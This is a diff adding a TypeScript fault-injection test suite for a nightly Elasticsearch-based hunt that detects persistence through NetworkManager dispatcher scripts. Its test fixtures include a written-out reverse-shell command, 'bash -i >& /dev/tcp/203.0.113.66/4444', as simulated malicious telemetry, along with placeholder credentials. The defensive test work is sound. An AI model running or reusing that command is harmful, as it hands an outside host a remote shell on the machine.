@@ -1,0 +1,242 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { DynamoDBClient, PutItemCommand } from '@aws-sdk/client-dynamodb';
+import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
+import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
+import { mockClient } from 'aws-sdk-client-mock';
+import { DynamoDbBaselineStore } from '../functions/adapters/dynamodb-baseline-store';
+import { parseRuntimeEnvironment } from '../functions/adapters/runtime-environment';
+import { errorMessage } from '../functions/core/errors';
+import type { RunLog } from '../functions/core/nightly-run';
+import { startElasticsearchStandIn, verificationException, type ElasticsearchStandIn, type RecordedRequest, type StandInReply } from '../functions/local/elasticsearch-stand-in';
+import { startEmbeddedDynamoDb, type EmbeddedDynamoDb } from '../functions/local/embedded-dynamodb';
+import { runNightlyJob } from '../functions/nightly-job';
+import { internalError, rejected, startDynamoFaultProxy, throttled, type DynamoFaultProxy, type FaultRule } from './support/dynamodb-fault-proxy';
+import { CHILD_COLUMNS, WRITE_COLUMNS, childRow, responseFor, writeRow } from './support/rows';
+
+/* Every case: night 1 learns; night 2 brings one new script write and one new child process while a fault
+   is injected; then a normal run a minute later and another the next night. Across all runs, each new
+   finding must be alerted exactly once (the documented crash window aside) and nothing may be lost. */
+
+const API_KEY = 'VnVXTjNvRUJ2dDBFcjNsT0pHbHM6c3VwZXItc2VjcmV0LWtleS12YWx1ZQ==';
+const PASSWORD = 'correct-horse-battery-staple-42';
+const CLOUD_ID = 'prod:ZXUtd2VzdC0xLmF3cy5mb3VuZC5pbyRhYmNkZWYkZ2hpams=';
+const SECRET_VALUES = [API_KEY, PASSWORD, CLOUD_ID, 'super-secret-key-value'];
+const SECRET_ID = 'nm-dispatcher-hunt/elasticsearch';
+const T0 = Date.parse('2026-11-24T02:00:00.000Z');
+
+const STOCK_WRITE = writeRow({ 'file.path': '/etc/NetworkManager/dispatcher.d/01-ifupdown', 'process.executable': '/usr/bin/cp' });
+const STOCK_CHILD = childRow({ 'process.parent.executable': '/etc/NetworkManager/dispatcher.d/01-ifupdown', 'process.executable': '/usr/bin/logger', 'process.command_line': 'logger up' });
+const NEW_WRITE = writeRow({ 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash' });
+const NEW_CHILD = childRow({ 'process.parent.executable': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/nohup', 'process.command_line': "nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" });
+const NEW_PATHS = ['/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh|/usr/bin/bash', "/usr/bin/nohup|nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"];
+
+type EsFault = (request: RecordedRequest, hunt: 'child' | 'write', attempt: number) => StandInReply | undefined;
+
+interface FaultCase {
+  readonly name: string;
+  readonly es?: EsFault;
+  readonly dynamo?: FaultRule;
+  readonly sns?: 'fail-once';
+  readonly secret?: string | Error;
+  /** What the faulty run must say (in its error, a problem or a log line). */
+  readonly says: RegExp;
+  readonly outcome: 'succeeded' | 'failed' | 'threw';
+  /** Documented at-least-once window (crash after SNS accepted the message, before marking). */
+  readonly mayRepeatOnce?: boolean;
+  readonly dynamoFactory?: (db: EmbeddedDynamoDb, table: string) => FaultRule;
+}
+
+const esError = (status: number, type: string, reason: string): StandInReply => ({ status, body: { error: { root_cause: [{ type, reason }], type, reason }, status } });
+const once = <T>(fault: T) => {
+  let used = false;
+  return () => (used ? undefined : ((used = true), fault));
+};
+
+const CASES: FaultCase[] = [
+  { name: 'Elasticsearch 401 (wrong API key)', es: () => esError(401, 'security_exception', 'unable to authenticate with provided credentials'), says: /401.*wrong, expired or revoked/, outcome: 'failed' },
+  { name: 'Elasticsearch 403 on the process index', es: (_r, hunt) => (hunt === 'child' ? esError(403, 'security_exception', 'action [indices:data/read/esql] is unauthorized for API key id [x] on indices [logs-endpoint.events.process-default]') : undefined), says: /403.*"read" and "view_index_metadata" index privileges on logs-endpoint\.events\.process-\*/, outcome: 'failed' },
+  { name: 'Elasticsearch 429 then success', es: (_r, _h, attempt) => (attempt < 2 ? esError(429, 'es_rejected_execution_exception', 'rejected execution') : undefined), says: /retrying Elasticsearch/, outcome: 'succeeded' },
+  { name: 'Elasticsearch 503 then success', es: (_r, _h, attempt) => (attempt < 1 ? { status: 503, body: { error: 'unavailable' } } : undefined), says: /retrying Elasticsearch/, outcome: 'succeeded' },
+  { name: 'connection reset then success', es: (_r, _h, attempt) => (attempt < 1 ? { status: 200, body: {}, reset: true } : undefined), says: /retrying Elasticsearch/, outcome: 'succeeded' },
+  { name: 'query outlasts the timeout (async API)', es: (r) => (r.path.startsWith('/_query?') ? { status: 200, body: {}, delayMs: 2_500 } : undefined), says: /hunt finished/, outcome: 'succeeded' },
+  { name: 'unknown index (opt-in source absent)', es: (_r, hunt) => (hunt === 'write' ? { status: 400, body: verificationException('Found 1 problem\nline 1:6: Unknown index [endgame-*]') } : undefined), says: /no index matched/, outcome: 'succeeded' },
+  { name: 'unknown field (mappings missing)', es: (_r, hunt) => (hunt === 'child' ? { status: 400, body: verificationException('Found 1 problem\nline 3:5: Unknown column [process.parent.executable]') } : undefined), says: /Unknown column \[process\.parent\.executable\]/, outcome: 'failed' },
+  { name: 'malformed JSON', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: '{"columns": [', raw: true } : undefined), says: /not valid JSON/, outcome: 'failed' },
+  { name: 'missing columns', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: { columns: [{ name: 'file.path', type: 'keyword' }], values: [['/x']] } } : undefined), says: /lacks columns/, outcome: 'failed' },
+  { name: 'wrong types', es: (_r, hunt) => (hunt === 'child' ? { status: 200, body: responseFor(CHILD_COLUMNS, [childRow({ event_count: 'seven' })]) } : undefined), says: /not a count/, outcome: 'failed' },
+  { name: 'is_partial: true', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: responseFor(WRITE_COLUMNS, [STOCK_WRITE, NEW_WRITE], { is_partial: true }) } : undefined), says: /partial results/, outcome: 'failed' },
+  { name: 'DynamoDB throttling', dynamo: ((count = 0) => (op: string) => (op === 'BatchGetItem' && count++ < 2 ? throttled() : undefined))(), says: /run finished/, outcome: 'succeeded' },
+  { name: 'DynamoDB unprocessed items and keys', dynamo: (op) => (op === 'BatchWriteItem' || op === 'BatchGetItem' ? { kind: 'partial-batch', keep: 1 } : undefined), says: /run finished/, outcome: 'succeeded' },
+  {
+    name: 'conditional-check failure from a racing run',
+    says: /baseline compared/,
+    outcome: 'succeeded',
+    dynamoFactory: (db, table) => {
+      const compete = once(true);
+      return (op, body) => {
+        if (op !== 'PutItem' || !compete()) return undefined;
+        // Another run claims the same fingerprint first, then dies before publishing.
+        const item = { ...(body.Item as Record<string, unknown>), claimRunId: { S: 'racing-run' } };
+        return { kind: 'before', action: async () => void (await db.client.send(new PutItemCommand({ TableName: table, Item: item as never }))) };
+      };
+    },
+  },
+  { name: 'SNS publish fails', sns: 'fail-once', says: /Publishing the notification failed/, outcome: 'failed' },
+  { name: 'DynamoDB fails after publish, before marking (transient)', dynamo: ((count = 0) => (op: string) => (op === 'UpdateItem' && count++ < 2 ? internalError() : undefined))(), says: /notification published/, outcome: 'succeeded' },
+  { name: 'secret missing', secret: Object.assign(new Error('Secrets Manager can’t find the specified secret.'), { name: 'ResourceNotFoundException' }), says: /does not exist in this account and region/, outcome: 'threw' },
+  { name: 'secret not JSON', secret: `apiKey=${API_KEY}`, says: /secret is not valid JSON/, outcome: 'threw' },
+  { name: 'secret missing fields', secret: JSON.stringify({ cloudId: CLOUD_ID, username: 'hunter' }), says: /field "password": missing/, outcome: 'threw' },
+  { name: 'secret wrong types', secret: JSON.stringify({ node: 'https://es.example.com', apiKey: 12345, password: PASSWORD }), says: /field "apiKey": must be a non-empty string/, outcome: 'threw' },
+  { name: 'crash reading the learning state', dynamo: (op) => (op === 'GetItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
+  { name: 'crash reading the baseline', dynamo: (op) => (op === 'BatchGetItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
+  { name: 'crash listing pending entries', dynamo: (op, body) => (op === 'Query' && body.IndexName === 'pending' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
+  { name: 'crash claiming new findings', dynamo: (op) => (op === 'PutItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
+  { name: 'crash after publish, before marking', dynamo: (op) => (op === 'UpdateItem' ? rejected() : undefined), says: /could not be marked alerted/, outcome: 'failed', mayRepeatOnce: true },
+  { name: 'crash recording known findings', dynamo: (op) => (op === 'BatchWriteItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
+];
+
+let db: EmbeddedDynamoDb;
+let proxy: DynamoFaultProxy;
+let es: ElasticsearchStandIn;
+let esFault: EsFault | undefined;
+let night: 1 | 2 = 1;
+const attempts = new Map<string, number>();
+const sns = mockClient(SNSClient);
+const secretsManager = mockClient(SecretsManagerClient);
+const results: { name: string; lost: number; duplicates: number; survived: boolean }[] = [];
+/** Messages SNS accepted (a rejected publish delivers nothing). */
+let delivered: { Message?: string }[] = [];
+let failNextPublish = false;
+let nextSecret: string | Error | undefined;
+let goodSecret = '';
+
+before(async () => {
+  db = await startEmbeddedDynamoDb();
+  proxy = await startDynamoFaultProxy(db.endpoint);
+  es = await startElasticsearchStandIn({
+    majorVersion: 8,
+    respond: (request) => {
+      const hunt = String(request.body.query ?? '').includes('process-*') ? 'child' : 'write';
+      const key = `${hunt}:${request.path.split('?')[0]}`;
+      const attempt = attempts.get(key) ?? 0;
+      attempts.set(key, attempt + 1);
+      const fault = night === 2 ? esFault?.(request, hunt, attempt) : undefined;
+      if (fault) return fault;
+      if (request.method === 'DELETE') return { status: 200, body: { acknowledged: true } };
+      const rows = hunt === 'child' ? [STOCK_CHILD, ...(night === 2 ? [NEW_CHILD] : [])] : [STOCK_WRITE, ...(night === 2 ? [NEW_WRITE] : [])];
+      return { status: 200, body: responseFor(hunt === 'child' ? CHILD_COLUMNS : WRITE_COLUMNS, rows) };
+    },
+  });
+});
+
+after(async () => {
+  await es.close();
+  await proxy.close();
+  await db.close();
+  const rows = results.map((r) => `| ${r.name.padEnd(56)} | ${(r.survived ? 'yes' : 'NO').padEnd(8)} | ${String(r.lost).padStart(4)} | ${String(r.duplicates).padStart(16)} |`);
+  console.log(['', 'Fault injection summary', `| ${'fault injected'.padEnd(56)} | survived | lost | duplicate alerts |`, ...rows, `${results.length} faults injected, ${results.filter((r) => r.survived).length} survived, ${results.reduce((n, r) => n + r.lost, 0)} findings lost, ${results.reduce((n, r) => n + r.duplicates, 0)} duplicate alerts (documented crash window)`, ''].join('\n'));
+});
+
+/** Every delivered message, as the identities it alerted. */
+function alertedIdentities(): string[] {
+  return delivered.flatMap((input) => {
+    const message = JSON.parse(JSON.parse(input.Message!).default) as { newFindings: { items: { identity: Record<string, string | null> }[] } };
+    return message.newFindings.items.map((item) => {
+      const id = item.identity;
+      return id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id['process.command_line']}`;
+    });
+  });
+}
+
+describe('fault injection', () => {
+  for (const fault of CASES) {
+    it(`${fault.name}: loses nothing and alerts once`, async () => {
+      const table = await db.createTable();
+      const lines: string[] = [];
+      const errors: string[] = [];
+      const log: RunLog = Object.fromEntries(['info', 'warn', 'error'].map((level) => [level, (message: string, details?: Record<string, unknown>) => lines.push(JSON.stringify({ level, message, ...details }))])) as unknown as RunLog;
+      const dynamodb = new DynamoDBClient({ endpoint: proxy.endpoint, region: 'us-east-1', credentials: { accessKeyId: 'l', secretAccessKey: 'l' }, maxAttempts: 4 });
+      const env = parseRuntimeEnvironment({ BASELINE_TABLE_NAME: table, ALERT_TOPIC_ARN: 'arn:aws:sns:us-east-1:111122223333:alerts', ES_SECRET_ID: SECRET_ID });
+      goodSecret = JSON.stringify({ node: es.url, apiKey: API_KEY });
+      delivered = [];
+      failNextPublish = false;
+      nextSecret = undefined;
+      sns.reset();
+      sns.on(PublishCommand).callsFake((input: { Message?: string }) => {
+        if (failNextPublish) {
+          failNextPublish = false;
+          throw new Error('InternalError: SNS is unavailable (injected)');
+        }
+        delivered.push(input);
+        return { MessageId: `mid-${delivered.length}` };
+      });
+      secretsManager.reset();
+      secretsManager.on(GetSecretValueCommand).callsFake(() => {
+        const secret = nextSecret ?? goodSecret;
+        nextSecret = undefined;
+        if (secret instanceof Error) throw secret;
+        return { SecretString: secret };
+      });
+
+      const run = async (at: number) => {
+        try {
+          return await runNightlyJob({
+            env,
+            clients: { dynamodb, sns: new SNSClient({ region: 'us-east-1' }), secrets: new SecretsManagerClient({ region: 'us-east-1' }) },
+            runId: `run-${at}`,
+            deadline: Date.now() + 60_000,
+            log,
+            secretSink: [],
+            clock: () => new Date(at),
+            retry: { maxAttempts: 3, baseDelayMs: 1, maxDelayMs: 5 },
+            esRequestTimeoutMs: fault.name.includes('timeout') ? 200 : 10_000,
+          });
+        } catch (error) {
+          errors.push(errorMessage(error));
+          return undefined;
+        }
+      };
+
+      night = 1;
+      esFault = undefined;
+      proxy.rule = () => undefined;
+      assert.equal((await run(T0))?.outcome, 'succeeded');
+
+      night = 2;
+      attempts.clear();
+      esFault = fault.es;
+      proxy.rule = fault.dynamoFactory ? fault.dynamoFactory(db, table) : fault.dynamo ?? (() => undefined);
+      failNextPublish = fault.sns === 'fail-once';
+      nextSecret = fault.secret;
+      const faulty = await run(T0 + 86_400_000);
+      assert.equal(faulty?.outcome ?? 'threw', fault.outcome, errors.join('\n') || JSON.stringify(faulty?.problems));
+      assert.match([...errors, ...(faulty?.problems ?? []), ...lines].join('\n'), fault.says);
+
+      esFault = undefined;
+      proxy.rule = () => undefined;
+      await run(T0 + 86_400_000 + 60_000); // a retry a minute later
+      await run(T0 + 2 * 86_400_000); // the next night
+
+      const alerted = alertedIdentities();
+      const store = new DynamoDbBaselineStore(db.client, table);
+      const statuses = new Map<string, string>();
+      for await (const entry of store.list()) {
+        const id = entry.identity;
+        statuses.set(id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id['process.command_line']}`, entry.status);
+      }
+      const lost = NEW_PATHS.filter((p) => !alerted.includes(p) && statuses.get(p) !== 'pending').length;
+      const repeats = NEW_PATHS.map((p) => Math.max(0, alerted.filter((a) => a === p).length - 1));
+      const duplicates = repeats.reduce((a, b) => a + b, 0);
+      const allowed = fault.mayRepeatOnce ? 1 : 0;
+      results.push({ name: fault.name, lost, duplicates, survived: lost === 0 && repeats.every((r) => r <= allowed) });
+      assert.equal(lost, 0, `lost findings; alerted: ${alerted.join(', ')}`);
+      assert.ok(repeats.every((r) => r <= allowed), `duplicates: ${alerted.join(', ')}`);
+      for (const p of NEW_PATHS) assert.equal(statuses.get(p), 'alerted', p);
+
+      // Secrets hygiene: nothing logged or thrown carries a credential.
+      for (const text of [...lines, ...errors]) for (const secret of SECRET_VALUES) assert.ok(!text.includes(secret), `secret in: ${text.slice(0, 120)}`);
+      dynamodb.destroy();
+    });
+  }
+});
